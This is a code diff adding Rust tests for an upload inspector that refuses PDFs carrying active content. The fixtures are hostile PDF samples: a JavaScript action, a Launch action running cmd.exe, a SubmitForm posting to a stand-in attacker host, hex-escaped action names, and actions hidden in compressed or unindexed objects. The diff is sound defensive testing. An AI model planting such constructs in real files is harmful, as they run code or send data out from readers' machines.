@@ -91,6 +91,81 @@ fn a_pdf_of_ours_is_whole_and_half_of_it_is_damaged() {
     );
 }
 
+/// A small PDF of these objects, with its table where it belongs.
+fn pdf(objects: &[Vec<u8>], trailer: &str) -> Vec<u8> {
+    let mut out = b"%PDF-1.7\n".to_vec();
+    let mut table = format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
+    for (i, object) in objects.iter().enumerate() {
+        table.push_str(&format!("{:010} 00000 n \n", out.len()));
+        out.extend(format!("{} 0 obj\n", i + 1).bytes());
+        out.extend(object);
+        out.extend(b"\nendobj\n");
+    }
+    let at = out.len();
+    let size = objects.len() + 1;
+    out.extend(
+        format!("{table}trailer\n<</Size {size}/Root 1 0 R{trailer}>>\nstartxref\n{at}\n%%EOF\n").bytes(),
+    );
+    out
+}
+
+fn packed(text: &[u8]) -> Vec<u8> {
+    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+    std::io::Write::write_all(&mut encoder, text).unwrap();
+    encoder.finish().unwrap()
+}
+
+fn stream(dictionary: &str, bytes: &[u8]) -> Vec<u8> {
+    let head = format!("<<{dictionary}/Length {}>>\nstream\n", bytes.len());
+    [head.as_bytes(), bytes, b"\nendstream"].concat()
+}
+
+#[test]
+fn a_pdf_that_runs_something_is_refused_however_it_hides_it() {
+    let catalog = |more: &str| format!("<</Type/Catalog/Pages 2 0 R{more}>>").into_bytes();
+    let pages = b"<</Type/Pages/Kids[]/Count 0>>".to_vec();
+    let inspect = |objects: &[Vec<u8>], trailer: &str| {
+        Upload::inspect(pdf(&[vec![catalog(""), pages.clone()], objects.to_vec()].concat(), trailer), "a.pdf")
+    };
+    let script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>";
+    // Nothing but pages; the word in a text is no action.
+    let text = stream("/Filter/FlateDecode", &packed(b"BT (Facture du cours JavaScript, Launch) Tj ET"));
+    assert!(inspect(&[text], "").is_ok());
+    let inside =
+        |dictionary: &str, bytes: &[u8]| stream(&format!("/Type/ObjStm/N 1/First 4{dictionary}"), bytes);
+    let object = [b"9 0 ".as_slice(), script].concat();
+    for (what, objects) in [
+        ("a script", vec![script.to_vec()]),
+        ("a program", vec![b"<</S/Launch/F(cmd.exe)>>".to_vec()]),
+        ("a name with escapes", vec![b"<</S/#4aavaScr#69pt/JS(x)>>".to_vec()]),
+        ("a name as an object of its own", vec![b"/JavaScript".to_vec()]),
+        ("in a stream of objects", vec![inside("/Filter/FlateDecode", &packed(&object))]),
+        ("in an unpacked stream of objects", vec![inside("", &object)]),
+        ("a form that sends itself", vec![b"<</S/SubmitForm/F(https://evil.example)>>".to_vec()]),
+    ] {
+        assert_eq!(inspect(&objects, ""), Err(UploadRefusal::Active), "{what}");
+    }
+    // Even where the table does not point.
+    let mut appended = pdf(&[catalog(""), pages.clone()], "");
+    appended.splice(9..9, b"7 0 obj <</S/JavaScript>> endobj\n".iter().copied());
+    let at = String::from_utf8_lossy(&appended).rfind("startxref").unwrap();
+    let table = String::from_utf8_lossy(&appended).find("xref\n0").unwrap();
+    appended.truncate(at);
+    appended.extend(format!("startxref\n{table}\n%%EOF\n").bytes());
+    assert_eq!(Upload::inspect(appended, "a.pdf"), Err(UploadRefusal::Active));
+
+    assert_eq!(inspect(&[], "/Encrypt 3 0 R"), Err(UploadRefusal::Encrypted));
+    let damaged = Err(UploadRefusal::Damaged { kind: UploadKind::Pdf });
+    let twice = packed(&packed(&object));
+    for (what, filter) in [
+        ("packed twice", "/Filter[/FlateDecode/FlateDecode]"),
+        ("packed in a rare way", "/Filter/LZWDecode"),
+        ("packed in a way that stands elsewhere", "/Filter 5 0 R"),
+    ] {
+        assert_eq!(inspect(&[inside(filter, &twice)], ""), damaged, "{what}");
+    }
+}
+
 #[test]
 fn the_name_and_its_ending_prove_nothing() {
     let page = b"<!DOCTYPE html><html><script>alert(1)</script></html>".to_vec();
